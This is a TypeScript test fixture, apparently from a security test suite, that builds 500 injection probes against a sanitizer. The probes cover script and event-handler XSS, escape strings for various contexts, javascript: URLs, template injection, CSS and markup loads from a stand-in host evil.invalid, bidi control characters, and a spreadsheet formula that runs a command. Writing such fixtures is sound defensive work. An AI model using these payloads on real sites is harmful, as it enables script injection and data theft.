/**
 * Texts that try to become more than text (security 21): 500 ways to write markup, handlers, addresses, templates, styles, control and
 * direction marks. Each one that ran would set `window.__hit`; each one that loaded anything would ask `evil.invalid`.
 */
const hit = 'window.__hit=1';
const evil = 'https://evil.invalid/x';

const tags = (
  'script img svg iframe object embed style link base form math video audio details template marquee input button select textarea ' +
  'body html frameset frame applet meta portal picture source track canvas dialog slot custom-x table'
).split(' ');
const handlers = (
  'onerror onload onclick onfocus onblur onmouseover onpointerenter onanimationstart ontransitionend ontoggle oninput onchange ' +
  'onsubmit onwheel onscroll onbegin onpageshow onhashchange onmessage onbeforetoggle onauxclick oncontextmenu oncopy onpaste ondrag ' +
  'onkeydown'
).split(' ');
/** Ways out of where a text may stand: element, attribute, comment, style, script, JSON, template, ICU message. */
const exits = [
  '',
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '</style>',
  '</script>',
  '</textarea>',
  '</title>',
  '\\"}',
  '}}',
  "'}{",
];
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  '\u0001javascript:',
  'vbscript:',
  'data:text/html,',
  'blob:',
];

const written: readonly string[] = [
  `{{constructor.constructor("${hit}")()}}`,
  `\${${hit}}`,
  `#{${hit}}`,
  `<%= ${hit} %>`,
  `{customer.surname}<script>${hit}</script>`,
  '{count, plural, one {<b>x</b>} other {y}}',
  "{0}'}{",
  '{unclosed',
  '<0>tag of a translation</0>',
  `<!--><script>${hit}//-->`,
  `</p></section></main><script>${hit}</script>`,
  `&lt;script&gt;${hit}&lt;/script&gt;`,
  `&#60;img src=x onerror=${hit}&#62;`,
  `\\u003cimg src=x onerror=${hit}\\u003e`,
  `%3Cscript%3E${hit}%3C/script%3E`,
  '\u202Eevil\u202C\u0007',
  '\u2066\u2067\u2068hidden\u2069',
  'a\u0300'.repeat(30),
  '\uFEFF\u200B\u200D\u2028\u2029',
  '__proto__',
  'constructor',
  'toString',
  '<style>*{display:none}</style>',
  `<style>@import url(${evil});</style>`,
  `<b style="background:url(${evil})">x</b>`,
  '<b style=position:fixed;inset:0>over</b>',
  `<base href="${evil}">`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<link rel=stylesheet href=${evil}>`,
  `<img src=${evil}>`,
  `<img srcset="${evil} 1x">`,
  `<svg><image href=${evil} /></svg>`,
  `<svg><use href="${evil}#a"/></svg>`,
  `<svg><script>${hit}</script></svg>`,
  `<svg><animate attributeName=href values=javascript:${hit} /></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${hit}>`,
  `<form action=${evil}><input type=submit autofocus></form>`,
  `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  `<input autofocus onfocus=${hit}>`,
  `<x contenteditable autofocus onfocus=${hit}>`,
  `<noscript><p title="</noscript><img src=x onerror=${hit}>">`,
  `sip:"<img src=x onerror=${hit}>"@evil.invalid`,
  `+86138<img src=x onerror=${hit}>`,
  `=HYPERLINK("${evil}")`,
  `@SUM(1)*cmd|' /C calc'!A0`,
];

const made: readonly string[] = [
  ...tags.flatMap((tag) => [
    `<${tag} src=${evil} href=${evil} data=${evil} onerror=${hit} onload=${hit} ontoggle=${hit}>`,
    `"><${tag} onclick=${hit} autofocus tabindex=0 onfocus=${hit}>x</${tag}>`,
  ]),
  ...schemes.flatMap((scheme) => [`${scheme}${hit}`, `<a href="${scheme}${hit}">x</a>`, `[x](${scheme}${hit})`]),
  ...handlers.flatMap((handler) => exits.map((exit) => `${exit}<b tabindex=0 ${handler}=${hit}>x</b>`)),
  ...exits.flatMap((exit) => [`${exit}<script>${hit}</script>`, `${exit}<img src=x onerror=${hit}>`]),
];

export const payloads: readonly string[] = [...new Set([...written, ...made])].slice(0, 500);
